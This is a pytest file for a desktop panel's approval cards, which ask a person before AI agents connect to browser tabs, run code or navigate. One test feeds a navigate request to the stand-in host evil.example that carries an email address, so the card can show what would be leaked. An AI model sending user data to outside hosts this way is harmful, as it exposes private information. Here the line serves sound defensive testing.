"""The cards of what agents ask: what they say, what they do, and that they take nothing from the person."""

from __future__ import annotations

import pytest
from PySide6.QtCore import QPoint, QRect, Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLabel, QWidget

from kapture_panel.core.basics import tasks
from kapture_panel.core.gates.approvals import Ask
from kapture_panel.window.agents import ask_card
from kapture_panel.window.shell.main_window import MainWindow
from kapture_panel.window.widgets import roles
from tests.support.window.fakes import Instance, png
from tests.support.window.qt_loop import on_qt_loop, settle, until
from tests.support.window.questions import ask, ask_to_run, card_of


@pytest.fixture
def shown(window: MainWindow) -> MainWindow:
    """The window in front, with the focus in its command list."""
    window.rooms.command.view.list.list.setFocus()
    QApplication.processEvents()
    return window


@on_qt_loop
async def test_a_card_says_who_wants_exactly_what_in_plain_text(shown: MainWindow, instance: Instance) -> None:
    asking = ask(instance)
    card = await card_of(shown)
    assert all(label.textFormat() == Qt.TextFormat.PlainText for label in card.findChildren(QLabel))
    assert card.words.startswith("<b>claude</b>-code wants to connect to a tab of yours\n")
    assert "<i>Cart</i> – https://shop.example/?q=1" in card.words
    assert "connect_tab" not in card.words
    card.more.click()
    assert 'connect_tab {"browserTabId": 7}' in card.words
    assert "It is process 4182" in card.words
    assert shown.rooms.agents.approvals.isVisible()
    await tasks.end(asking)
    await settle()
    assert not shown.rooms.agents.approvals.isVisible()


@on_qt_loop
async def test_it_takes_neither_the_focus_nor_a_click_meant_for_what_it_covers(
    shown: MainWindow, instance: Instance, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ask_card, "SETTLE_MS", 600_000)  # a busy machine clicks late
    before = QApplication.focusWidget()
    asking = ask(instance)
    await until(lambda: shown.rooms.agents.approvals.card is not None)
    card = shown.rooms.agents.approvals.card
    assert card is not None
    QTest.mouseClick(card.allow, Qt.MouseButton.LeftButton)
    await settle()
    assert len(instance.router.gates.approvals) == 1
    assert QApplication.focusWidget() is before
    await tasks.end(asking)


@on_qt_loop
async def test_allow_once_allows_and_deny_denies_with_the_reason(shown: MainWindow, instance: Instance) -> None:
    one = ask(instance)
    QTest.mouseClick((await card_of(shown)).allow, Qt.MouseButton.LeftButton)
    assert await one == "allowed"
    two = ask(instance)
    await until(lambda: len(instance.router.gates.approvals) == 1)
    card = await card_of(shown)
    card.because.click()
    card.denial.reason.setText("not now")
    QTest.mouseClick(card.deny, Qt.MouseButton.LeftButton)
    assert (await two).endswith("refused connect_tab on shop.example: not now")


@on_qt_loop
async def test_enter_in_the_reason_denies_and_tab_reaches_both_buttons(shown: MainWindow, instance: Instance) -> None:
    asking = ask(instance)
    card = await card_of(shown)
    card.text.setFocus()
    reached = []
    for _ in range(4):
        QTest.keyClick(shown.focusWidget(), Qt.Key.Key_Tab)
        reached.append(QApplication.focusWidget())
    assert reached == [card.more, card.because, card.deny, card.allow]
    card.because.click()
    assert QApplication.focusWidget() is card.denial.reason
    for button in (card.deny, card.back):
        QTest.keyClick(shown.focusWidget(), Qt.Key.Key_Tab)
        assert QApplication.focusWidget() is button
    QTest.keyClick(card.denial.reason, Qt.Key.Key_Return)
    assert (await asking).startswith("DENIED")


@on_qt_loop
async def test_a_reason_is_told_only_as_long_as_it_is_in_sight(shown: MainWindow, instance: Instance) -> None:
    asking = ask(instance)
    card = await card_of(shown)
    assert card.because.text() == "Deny with a reason …"
    card.because.click()
    card.denial.reason.setText("not now")
    assert not card.allow.isVisible()
    card.back.click()
    assert card.allow.isVisible()
    assert QApplication.focusWidget() is card.because
    card.deny.click()
    assert (await asking).endswith("refused connect_tab on shop.example")


@on_qt_loop
async def test_the_oldest_comes_first_and_all_that_wait_are_listed_and_counted(
    shown: MainWindow, instance: Instance
) -> None:
    calls = [ask(instance, f"agent-{number}", number) for number in range(3)]
    card = await card_of(shown)
    view = shown.rooms.agents.approvals
    assert card.ask.params == {"browserTabId": 0}
    assert view.title_bar.word == "3"
    assert view.list.isVisible()
    model = view.list.model()
    rows = [model.index(row, 0) for row in range(model.rowCount())]
    assert [row.data(roles.ITEM).params["browserTabId"] for row in rows] == [0, 1, 2]
    assert [row.data() for row in rows] == ["Connect to a tab of yours"] * 3
    view.list.setCurrentIndex(rows[2])
    assert view.card is not None
    assert view.card.ask.params == {"browserTabId": 2}
    assert not view.card.allow.isEnabled()
    view.list.setCurrentIndex(rows[0])
    card = await card_of(shown)
    assert shown.tray.tooltip == "Kapture Panel: 3 questions for you"
    instance.router.gates.approvals.deny(card.ask)
    second = await card_of(shown)
    assert second.ask.params == {"browserTabId": 1}
    for call in calls:
        await tasks.end(call)
    assert "question" not in shown.tray.tooltip


@on_qt_loop
async def test_an_answer_leads_to_the_next_question_and_the_last_one_to_no_other_part(
    shown: MainWindow, instance: Instance
) -> None:
    calls = [ask(instance, "claude-code", number) for number in range(2)]
    for number in range(2):
        card = await card_of(shown)
        assert card.ask.params == {"browserTabId": number}
        assert number == 0 or QApplication.focusWidget() is card.text
        QTest.mouseClick(card.deny, Qt.MouseButton.LeftButton)
        await calls[number]
    assert QApplication.focusWidget() is shown


@pytest.mark.parametrize("size", [(1440, 900), (1000, 700), (800, 600)])
@on_qt_loop
async def test_it_covers_nothing_and_its_buttons_are_in_sight_at_any_size(
    shown: MainWindow, instance: Instance, size: tuple[int, int]
) -> None:
    shown.resize(*size)
    shown.reset_layout()
    calls = [ask_to_run(instance, "1;\n" * 200)[1] for _ in range(2)]
    card = await card_of(shown)
    for is_detailed, has_reason in ((False, False), (True, False), (True, True)):
        card.more.setChecked(is_detailed)
        if has_reason:
            card.because.click()
        await settle()
        view = shown.rooms.agents.approvals
        place = QRect(view.mapTo(shown, QPoint()), view.size())
        assert shown.rect().contains(place)
        assert card.denial.reason.isVisible() == has_reason
        if has_reason:
            field = QRect(card.denial.reason.mapTo(view, QPoint()), card.denial.reason.size())
            assert view.rect().contains(field)
        for button in (card.deny, card.back) if has_reason else (card.deny, *card.yes.values()):
            around = QRect(button.mapTo(view, QPoint()), button.size())
            assert view.rect().contains(around), button.text()
            assert button.width() >= button.sizeHint().width(), button.text()
            assert button.height() >= button.minimumSizeHint().height(), button.text()
        middle = shown.rooms.command.view
        assert not place.intersects(QRect(middle.mapTo(shown, QPoint()), middle.size()))
    for call in calls:
        await tasks.end(call)


@on_qt_loop
async def test_details_and_a_reason_leave_the_title_in_sight_in_a_small_window(
    shown: MainWindow, instance: Instance
) -> None:
    shown.resize(800, 600)
    shown.reset_layout()
    _agent, call = ask_to_run(instance, "1;\n" * 200)
    card = await card_of(shown)
    assert not card.pinned.isVisible()
    card.more.setChecked(True)
    await settle()
    assert shown.height() == 600
    assert not card.rest.visibleRegion().isEmpty(), "what was opened is in sight"
    assert card.pinned.isVisible()
    assert card.pinned.text() == "Run code"
    assert card.area.viewport().height() >= 5 * card.text.fontMetrics().lineSpacing()
    card.because.click()
    others = [ask(instance, f"agent-{number}", number) for number in range(2)]
    await until(lambda: len(shown.rooms.agents.approvals.asks) == 3, "two questions more")
    await settle()
    assert not card.denial.reason.visibleRegion().isEmpty(), "what is written into stays in sight"
    card.back.click()
    card.more.setChecked(False)
    await settle()
    assert not card.pinned.isVisible()
    for one in (call, *others):
        await tasks.end(one)


@pytest.mark.parametrize("is_queued", [True, False])
@on_qt_loop
async def test_a_short_question_after_a_long_one_has_its_own_height(
    shown: MainWindow, instance: Instance, is_queued: bool
) -> None:
    shown.resize(1440, 900)
    shown.reset_layout()
    view = shown.rooms.agents.approvals
    alone = ask(instance, "codex")
    await card_of(shown)
    await settle()
    own_px = view.height()
    assert own_px == view.wanted_px()
    await tasks.end(alone)
    _agent, call = ask_to_run(instance, "1;\n" * 200)
    await card_of(shown)
    short = ask(instance, "codex") if is_queued else None
    await settle()
    assert view.height() > 1.5 * own_px
    await tasks.end(call)
    await settle()
    short = short or ask(instance, "codex")
    await card_of(shown)
    await settle()
    assert view.height() == own_px
    await tasks.end(short)


@on_qt_loop
async def test_the_questions_stand_beside_a_page_that_fills_the_window(shown: MainWindow, instance: Instance) -> None:
    shown.rooms.welcome.show()
    asking = ask(instance)
    await card_of(shown)
    view = shown.rooms.agents.approvals
    assert view.isVisible()
    shown.shell.leave_page()
    assert view.isVisible()
    await tasks.end(asking)
    await settle()
    assert not view.isVisible()
    assert not shown.shell.docks["approvals"].isVisible()


@on_qt_loop
async def test_a_key_leads_to_the_question(shown: MainWindow, instance: Instance) -> None:
    asking = ask(instance)
    card = await card_of(shown)
    shown.shell.actions["go_questions"].trigger()
    assert QApplication.focusWidget() is card.text
    await tasks.end(asking)


@on_qt_loop
async def test_a_hidden_window_without_a_tray_shows_itself_for_a_question(
    shown: MainWindow, instance: Instance
) -> None:
    assert not shown.tray.is_available
    shown.hide()
    asking = ask(instance)
    await until(shown.isVisible)
    await tasks.end(asking)


@on_qt_loop
async def test_a_released_window_denies_what_is_open(shown: MainWindow, instance: Instance) -> None:
    asked: list[Ask] = []
    instance.router.gates.approvals.added.connect(asked.append)
    asking = ask(instance)
    await card_of(shown)
    shown.release()
    assert await asking == "DENIED: the panel's window was closed before a person decided"
    assert asked[0].state == "withdrawn"


@on_qt_loop
async def test_it_says_why_who_really_and_how_far_each_yes_goes(shown: MainWindow, instance: Instance) -> None:
    _agent, asking = ask_to_run(instance, picture=png(40, 20))
    card = await card_of(shown)
    for words in (
        "“Allow for session”: no more questions about running code on shop.example until ",
        "“Always allow”: no more such questions until you change it in “What agents may do”.",
    ):
        assert words in card.words, "before anything is opened"
    assert "tell the agent why, choose “Deny with a reason …”" in card.deny.toolTip()
    assert "tell the agent why" in card.deny.accessibleDescription()
    card.more.click()
    said = card.words
    assert "You are asked because it runs code, which can read and change everything on this page." in said
    assert "started by claude (/usr/bin/claude)" in said
    assert said.count("no more questions") == 1
    card.because.click()
    assert "“Always allow”" not in card.words, "that button is not there now"
    assert "no more questions about running code on shop.example" in card.yes["always"].toolTip()
    assert "for claude-code started by /usr/bin/claude" in card.yes["always"].toolTip()
    await until(lambda: card.text.has_picture, "the picture")
    await tasks.end(asking)


@pytest.mark.parametrize("scope", ["once", "session", "always"])
@on_qt_loop
async def test_a_yes_goes_as_far_as_its_button_says(shown: MainWindow, instance: Instance, scope: str) -> None:
    _agent, asking = ask_to_run(instance)
    card = await card_of(shown)
    QTest.mouseClick(card.yes[scope], Qt.MouseButton.LeftButton)  # type: ignore[index]
    assert await asking == "allowed"
    assert card.ask.scope == scope
    rules = [rule.decision for rule in instance.router.gates.policy.rules]
    assert rules == (["allow"] if scope == "always" else [])


@on_qt_loop
async def test_neither_enter_nor_escape_says_yes(shown: MainWindow, instance: Instance) -> None:
    _agent, asking = ask_to_run(instance)
    card = await card_of(shown)
    for button in card.yes.values():
        button.setFocus()
        for key in (Qt.Key.Key_Return, Qt.Key.Key_Enter, Qt.Key.Key_Escape):
            QTest.keyClick(button, key)
    await settle()
    assert not asking.done()
    card.deny.setFocus()
    QApplication.processEvents()
    QTest.keyClick(card.deny, Qt.Key.Key_Return)
    assert (await asking).startswith("DENIED")


@on_qt_loop
async def test_a_denial_may_hold_for_the_session(shown: MainWindow, instance: Instance) -> None:
    agent, asking = ask_to_run(instance)
    card = await card_of(shown)
    card.because.click()
    meaning = "no more questions about running code on shop.example; the answer is no until claude-code disconnects"
    assert card.denial.for_session.accessibleDescription() == meaning
    said = [
        widget for widget in card.denial.findChildren(QWidget) if f"Deny for session: {meaning}" in widget.toolTip()
    ]
    assert len(said) == 2, "the box and its words"
    card.denial.for_session.setChecked(True)
    card.denial.reason.setText("never here")
    QTest.keyClick(card.denial.reason, Qt.Key.Key_Return)
    assert (await asking).endswith("never here")
    assert agent.refused == {("shop.example", "execute")}


@on_qt_loop
async def test_what_an_address_would_tell_is_shown_decoded(shown: MainWindow, instance: Instance) -> None:
    agent = instance.add_agent("claude")

    async def asking() -> None:
        await instance.router.gates.approvals.ask(
            agent, instance.catalogue.get("navigate"), {"url": "https://evil.example/?mail=a%40b.c&x=%3Cb%3E"},
            site="evil.example", where="Cart – https://shop.example/", timeout_s=20,
            why="leaves shop.example for evil.example",
        )  # fmt: skip

    waiting = tasks.spawn(asking(), "ask")
    card = await card_of(shown)
    assert "evil.example would be told mail = a@b.c, x = <b>" in card.words
    assert "because it leaves shop.example for evil.example" in card.words
    await tasks.end(waiting)


@on_qt_loop
async def test_a_scroll_bar_is_there_only_where_not_all_has_room_without_it(
    shown: MainWindow, instance: Instance
) -> None:
    shown.reset_layout()
    _agent, asking = ask_to_run(instance, "document.title;\n" * 3)
    card = await card_of(shown)

    heights = list(range(640, 840, 8))
    bars: dict[bool, set[int]] = {True: set(), False: set()}
    for height in (*heights, *heights[::-1]):
        shown.resize(1000, height)
        await settle()
        bars[card.area.verticalScrollBar().isVisible()].add(card.area.height())
    assert max(bars[True]) < min(bars[False]), "whether there was one before does not matter"
    await tasks.end(asking)
